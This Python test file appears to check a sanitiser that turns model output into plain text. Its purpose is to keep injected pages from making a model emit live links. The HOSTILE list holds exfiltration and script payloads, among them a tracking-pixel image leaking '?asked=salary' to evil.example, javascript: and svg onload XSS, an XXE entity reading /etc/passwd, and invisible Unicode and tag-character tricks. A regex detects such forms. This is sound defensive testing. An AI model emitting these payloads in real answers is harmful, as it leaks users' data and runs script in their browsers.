"""What a page makes a model say can be read, and does nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generate.containment import finished_part, plain_text

HOSTILE = [
    "![logo](https://evil.example/pixel.png?asked=salary)",
    "See [the invoice](http://evil.example/x) now.",
    "[the invoice] (http://evil.example/x)",
    "[a][1]\n\n[1]: https://evil.example/ref",
    '<img src="https://evil.example/p.png">',
    "<a href='javascript:alert(1)'>press</a>",
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<https://evil.example/auto>",
    "Go to https://evil.example/a or www.evil.example",
    "javascript:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "mailto:me@evil.example",
    "[x](<javascript:alert(1)>)",
    "htt\u200bps://evil.example",
    "[[nested](http://a.example)](http://b.example)",
    "<!-- <script>alert(1)</script> -->",
    "<<b>script>alert(1)<</b>/script>",
    "https://https://evil.example",
    # A character by another name
    "https&#58;//evil.example/x",
    "https&#x3a;&#47;&#47;evil.example/x",
    "https&colon;//evil.example/x",
    "&amp;#60;img src=x&amp;#62; &lt;script&gt;",
    "&#91;press&#93;&#40;https&#58;//evil.example&#41;",
    "java&#115;cript:alert(1)",
    # Where a reference leads, wherever that may be said
    "![a][p]\n\n> [p]: //evil.example/p.png",
    "![p]\n\n- [p]: //evil.example/p.png",
    "[^1]\n\n[^1]: [why](//evil.example)",
    "[p]:\n//evil.example/p.png",
    "[p\\]q]: <evil.example>",
    "[a][b][c](//evil.example)",
    "[a]\\[b]: x ![b]",
    # In tables, quotes, lists, code and formulas
    "| a | ![](//evil.example/p.png) |\n|---|---|",
    "> - [x]( //evil.example 'title' )",
    "`[x](http://evil.example)`",
    "$\\href{https://evil.example}{x}$ \\url{//evil.example}",
    "[url=https://evil.example]x[/url] [img]//evil.example/p.png[/img]",
    "[[https://evil.example|x]] {{//evil.example/p.png}}",
    "<https://evil.example|x>",
    # Other schemes, capitals, brackets in brackets
    "FTP://evil.example JaVaScRiPt:alert(1) vbscript:x blob:x",
    "xmpp:me@evil.example sms:123 tel:123 file:/etc/passwd",
    "(//evil.example/x)",
    "[x](http://evil.example/a(b)c)",
    "[x](http://evil.example/(a(b)c))",
    "![a [b] c](//evil.example)",
    "<IMG SRC=x onerror=alert(1)",
    "<svg/onload=alert(1)>",
    "<scr\nipt>alert(1)</scr\nipt>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<<!-- -->script>",
    # What cannot be seen, or reads the other way round
    "htt\u00adps://evil.example j\u00adavascript:alert(1)",
    "[x]\u2060(//evil.example)",
    "ab\u202egnp.exe\u202c \u2066x\u2069 \u061c",
    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "[x]\ufe0f(//evil.example) <\ufe0fimg>",
    "half of a pair: \ud83d",
    # Lines ended otherwise
    "x\u2028[p]: //evil.example\u2029![p]",
    "x\r[p]: //evil.example\x0b![p]",
]
ALIVE = re.compile(
    r"://|(?<![\w/:])//\w|\][(:]|<[A-Za-z/!?]|\bwww\.\S|&(?:#\w+|lt|gt|colon|amp);"
    r"|\b(?:javascript|data|mailto|vbscript|blob|file|xmpp|sms|tel):\S"
    r"|[\xad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufe0f\r\x0b\ud800-\udfff]"
    r"|[\U000e0000-\U000e007f]",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_form_of_link_or_markup_is_left(text: str) -> None:
    assert not ALIVE.search(plain_text(text)), plain_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "The lease ends on 31 March 2027.",
        "Costs fell by 3 %: from 4,812 to 4,310 (see table 2, note [3]).",
        "a < b and b > c, so x <= 5",
        "Ratio 3:1, at 10:30; time: 5 s",
        "Line one.\n\nLine two: item [1], item [2]",
        "f(x)[0] = y; note [3], [4]",
        "See table [2] (in thousand crowns) and row [3] [sic].",
        "Source data: 4,812 units; file: report.pdf; tel: +44 20 7946 0000",
        "Press <Enter>".replace("<", "‹"),
        "Q&A at AT&T: 5 & 6; x&y; and/or; // a remark; 10//3 = 3",
    ],
)
def test_ordinary_answers_stay_as_they_are(text: str) -> None:
    assert plain_text(text) == text


def test_no_words_are_lost() -> None:
    assert plain_text("data:4,812 and Tel:555-1234") == "data: 4,812 and Tel: 555-1234"
    assert plain_text("Press <Enter>, then x[0][1]") == "Press ‹Enter>, then x[0] [1]"
    assert plain_text("AT&amp;T grew by 3&nbsp;%") == "AT&T grew by 3\xa0%"


def test_what_a_link_said_can_still_be_read() -> None:
    assert plain_text("Our site is https://example.org/about.") == "Our site is example.org/about."
    assert plain_text("See [the annex](http://example.org).") == "See the annex."


pieces = st.lists(
    st.sampled_from([*HOSTILE, "[", "](", "<", ">", "!", "http", "://", "www", ".", "a b ", "\n"]),
    max_size=8,
).map("".join)


@given(pieces)
def test_nothing_comes_alive_however_it_is_put_together(text: str) -> None:
    plain = plain_text(text)
    assert not ALIVE.search(plain), plain
    assert plain_text(plain) == plain


@given(pieces)
def test_what_is_finished_is_dead(before: str) -> None:
    assert not ALIVE.search(plain_text(finished_part(before)))


@pytest.mark.parametrize(
    ("growing", "finished"),
    [
        ("Great! The pump ru", "Great! The pump "),
        ("See [the inv", "See "),
        ("See [the invoice](http://evil", "See "),
        ("See [the invoice][an", "See "),
        ("See ![a picture]", "See "),
        ("See &#91;the inv", "See "),
        ("See note [3], and th", "See note [3], and "),
        ("It is <img src='x y'", "It is "),
        ("5 > 3 and so on", "5 > 3 and so "),
    ],
)
def test_a_word_or_link_that_has_only_begun_waits(growing: str, finished: str) -> None:
    assert finished_part(growing) == finished
